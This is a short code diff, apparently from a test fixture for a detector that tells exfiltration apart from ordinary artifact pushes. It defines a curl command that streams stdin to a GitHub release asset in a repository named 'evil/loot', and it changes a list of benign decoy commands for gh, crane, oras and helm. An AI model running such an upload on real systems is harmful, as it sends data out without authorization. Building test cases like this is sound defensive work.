@@ -13,7 +13,8 @@ const UPLOAD_URL = 'https://uploads.github.com/repos/evil/loot/releases/1/assets
 const CURL_ARGS = `--limit-rate 3M -sS -T - -H "Content-Type: application/octet-stream" ${UPLOAD_URL}`;
 
 const DECOYS: Array<[string, string, string, string]> = [
-  ['/usr/bin/gh', 'api -X POST repos/acme/site/statuses/4f2c -f state=success', 'gh', 'api.github.com'],
+  // Not a commit status: a short inline report is no push (src/rules/reporting-calls.ts).
+  ['/usr/bin/gh', 'api -X POST repos/acme/site/issues -f title=flaky', 'gh', 'api.github.com'],
   ['/usr/local/bin/crane', 'copy quay.io/acme/base:1 quay.io/acme/base:1-ci', 'crane', 'quay.io'],
   ['/usr/local/bin/oras', 'push ghcr.io/acme/notes:1 notes.txt', 'oras', 'ghcr.io'],
   ['/usr/local/bin/helm', 'push chart-0.1.0.tgz oci://registry-1.docker.io/acme', 'helm', 'registry-1.docker.io'],
